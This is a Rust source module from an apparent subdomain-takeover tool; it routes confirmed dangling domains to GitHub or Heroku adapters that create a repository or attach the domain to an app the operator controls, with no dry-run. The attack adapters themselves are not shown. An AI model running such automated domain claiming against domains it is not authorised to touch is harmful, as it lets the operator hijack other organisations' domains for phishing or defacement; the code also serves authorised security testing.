// =============================================================================
// takeover/mod.rs — THE PART WHERE WE ACTUALLY DO SOMETHING ABOUT IT
// =============================================================================
//
// Detection ends with a confirmed (domain, provider) pair. This module decides
// what happens next:
//
//   github  -> make a repo, point a gh-pages branch at the domain
//   heroku  -> attach the domain to an app we control
//   other   -> say so, touch nothing
//
// Every supported branch performs REAL mutations against REAL accounts.
// There is no dry-run. Configure credentials only when you mean it.
//
// Progress lines go to the same writer as the result lines so a human reading
// stdout sees "Found: ...", the URLs, and then the verdict, in that order.
// =============================================================================

pub mod github;
pub mod heroku;

use std::io::Write;

use async_trait::async_trait;
use tracing::{info, warn};

use crate::config::Config;
use crate::errors::{IoResultExt, Result};
use crate::models::{CreatedResource, Provider, ScanOutcome};

pub use github::GithubTakeover;
pub use heroku::HerokuTakeover;

/// One way of claiming an abandoned resource.
///
/// Implementations never fail outright: each step that goes wrong is logged,
/// and whatever DID get created is returned.
#[async_trait]
pub trait TakeoverAction: Send + Sync {
    async fn claim(&self, domain: &str) -> Vec<CreatedResource>;
}

/// Routes confirmed vulnerabilities to the adapter for their provider.
/// An adapter is `None` when its credentials are not configured.
#[derive(Default)]
pub struct Dispatcher {
    github: Option<Box<dyn TakeoverAction>>,
    heroku: Option<Box<dyn TakeoverAction>>,
}

impl Dispatcher {
    pub fn new(
        github: Option<Box<dyn TakeoverAction>>,
        heroku: Option<Box<dyn TakeoverAction>>,
    ) -> Self {
        Self { github, heroku }
    }

    /// Build the real adapters for whatever credentials the config carries.
    pub fn from_config(config: &Config) -> Result<Self> {
        let github = match &config.github {
            Some(creds) => {
                let adapter = GithubTakeover::new(creds, config.api_timeout, &config.user_agent)?;
                Some(Box::new(adapter) as Box<dyn TakeoverAction>)
            }
            None => None,
        };
        let heroku = match &config.heroku {
            Some(creds) => {
                let adapter = HerokuTakeover::new(creds, config.api_timeout, &config.user_agent)?;
                Some(Box::new(adapter) as Box<dyn TakeoverAction>)
            }
            None => None,
        };

        info!(
            github = github.is_some(),
            heroku = heroku.is_some(),
            "Takeover adapters configured"
        );
        Ok(Self::new(github, heroku))
    }

    /// Act on a confirmed vulnerability. Writes progress lines to `out` and
    /// returns the outcome; the caller prints the outcome line itself.
    pub async fn dispatch<W: Write>(
        &self,
        domain: &str,
        provider: &Provider,
        out: &mut W,
    ) -> Result<ScanOutcome> {
        let adapter = match provider {
            Provider::Github => {
                writeln!(out, "Found: Misconfigured Github Page at {}", domain)
                    .with_path("stdout", "write progress")?;
                self.github.as_deref()
            }
            Provider::Heroku => {
                writeln!(out, "Found: Misconfigured Heroku app at {}", domain)
                    .with_path("stdout", "write progress")?;
                self.heroku.as_deref()
            }
            Provider::Unsupported(name) => {
                writeln!(out, "Found: Misconfigured {} website at {}", name, domain)
                    .with_path("stdout", "write progress")?;
                return Ok(ScanOutcome::Unsupported {
                    domain: domain.to_string(),
                    provider: name.clone(),
                });
            }
        };

        let Some(adapter) = adapter else {
            warn!(
                domain = domain,
                provider = %provider,
                "Vulnerable, but no credentials configured for this provider"
            );
            return Ok(ScanOutcome::MissingCredentials {
                domain: domain.to_string(),
                provider: provider.clone(),
            });
        };

        writeln!(out, "Trying to take over this domain now..Please wait for a few seconds")
            .with_path("stdout", "write progress")?;
        out.flush().with_path("stdout", "flush")?;

        let resources = adapter.claim(domain).await;
        for resource in &resources {
            writeln!(out, "{}", resource).with_path("stdout", "write progress")?;
        }

        info!(
            domain = domain,
            provider = %provider,
            resources = resources.len(),
            "Takeover attempted"
        );

        Ok(ScanOutcome::TakeoverAttempted {
            domain: domain.to_string(),
            provider: provider.clone(),
            resources,
        })
    }
}
